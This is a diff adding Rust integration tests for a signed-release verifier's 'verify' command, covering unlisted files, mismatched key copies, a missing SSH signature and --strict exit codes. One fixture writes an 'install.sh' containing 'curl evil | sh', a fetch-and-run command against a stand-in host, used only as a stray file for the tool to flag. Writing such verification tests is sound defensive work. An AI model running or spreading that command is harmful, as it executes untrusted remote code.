@@ -242,3 +242,115 @@ fn every_argument_has_help() {
     assert_eq!(code(&out), 0);
     assert!(text(&out.stdout).contains("--pubkey <FILE>"));
 }
+
+/// `forja verify` on `tmp/out` with the pinned key and `extra` arguments.
+fn verify_pinned(tmp: &Path, extra: &[&str]) -> Output {
+    let mut args = vec!["verify", "out", "--pubkey", "keys/forja.pub"];
+    args.extend(extra);
+    forja(&args, tmp)
+}
+
+/// Asserts that a plain verify passes and warns with `what`, and `--strict` fails with exit 4 naming it.
+#[track_caller]
+fn reported_then_strict(tmp: &Path, what: &str) {
+    let lax = verify_pinned(tmp, &[]);
+    assert_eq!(code(&lax), 0, "{}", text(&lax.stderr));
+    assert!(
+        text(&lax.stdout).contains(&format!("WARNING: {what}")),
+        "{}",
+        text(&lax.stdout)
+    );
+    assert!(
+        text(&lax.stderr).contains("--strict"),
+        "{}",
+        text(&lax.stderr)
+    );
+    let strict = verify_pinned(tmp, &["--strict"]);
+    assert_eq!(
+        code(&strict),
+        Exit::Unverified.code(),
+        "{}",
+        text(&strict.stderr)
+    );
+    assert!(
+        text(&strict.stderr).contains(what),
+        "{}",
+        text(&strict.stderr)
+    );
+    let json = verify_pinned(tmp, &["--strict", "--json"]);
+    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
+    assert_eq!(v["exit"], "unverified");
+    assert!(!v["findings"].as_array().unwrap().is_empty());
+}
+
+#[test]
+fn a_clean_build_passes_strict_verify_with_nothing_to_report() {
+    let tmp = tempfile::tempdir().unwrap();
+    keygen_and_build(tmp.path());
+    // The output lock is forja's own, never an artifact.
+    fs::write(tmp.path().join("out/.forja.lock"), b"").unwrap();
+    let out = verify_pinned(tmp.path(), &["--strict"]);
+    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
+    assert!(
+        !text(&out.stdout).contains("WARNING"),
+        "{}",
+        text(&out.stdout)
+    );
+    let v: serde_json::Value =
+        serde_json::from_slice(&verify_pinned(tmp.path(), &["--json"]).stdout).unwrap();
+    assert_eq!(v["findings"], serde_json::json!([]));
+}
+
+#[test]
+fn verify_reports_files_the_list_does_not_name() {
+    let tmp = tempfile::tempdir().unwrap();
+    keygen_and_build(tmp.path());
+    fs::write(tmp.path().join("out/install.sh"), b"curl evil | sh\n").unwrap();
+    reported_then_strict(tmp.path(), "install.sh: not listed in SHA256SUMS");
+    // A folder holding no listed file is one entry, not each file in it.
+    fs::remove_file(tmp.path().join("out/install.sh")).unwrap();
+    fs::create_dir_all(tmp.path().join("out/extra/deep")).unwrap();
+    fs::write(tmp.path().join("out/extra/deep/x"), b"x").unwrap();
+    reported_then_strict(tmp.path(), "extra/: not listed in SHA256SUMS");
+}
+
+#[test]
+fn verify_reports_key_copies_that_do_not_hold_the_pinned_key() {
+    let other = SigningKey::from_seed([42; 32]).public();
+    for (name, text_) in [
+        ("forja.pub", other.to_signify()),
+        ("forja.pub.ssh", other.to_openssh()),
+        ("allowed_signers", other.allowed_signers()),
+    ] {
+        let tmp = tempfile::tempdir().unwrap();
+        keygen_and_build(tmp.path());
+        fs::write(tmp.path().join("out").join(name), text_).unwrap();
+        reported_then_strict(
+            tmp.path(),
+            &format!("{name}: does not hold the key the signature was checked with"),
+        );
+    }
+}
+
+#[test]
+fn verify_reports_a_missing_ssh_signature() {
+    let tmp = tempfile::tempdir().unwrap();
+    keygen_and_build(tmp.path());
+    fs::remove_file(tmp.path().join("out/SHA256SUMS.sshsig")).unwrap();
+    reported_then_strict(tmp.path(), "SHA256SUMS.sshsig: missing");
+}
+
+#[test]
+fn a_bad_signature_outranks_what_strict_reports() {
+    let tmp = tempfile::tempdir().unwrap();
+    keygen_and_build(tmp.path());
+    fs::write(tmp.path().join("out/stray"), b"x").unwrap();
+    flip_signature_char(&tmp.path().join("out/SHA256SUMS.sig"));
+    let out = verify_pinned(tmp.path(), &["--strict"]);
+    assert_eq!(
+        code(&out),
+        Exit::BadSignature.code(),
+        "{}",
+        text(&out.stderr)
+    );
+}
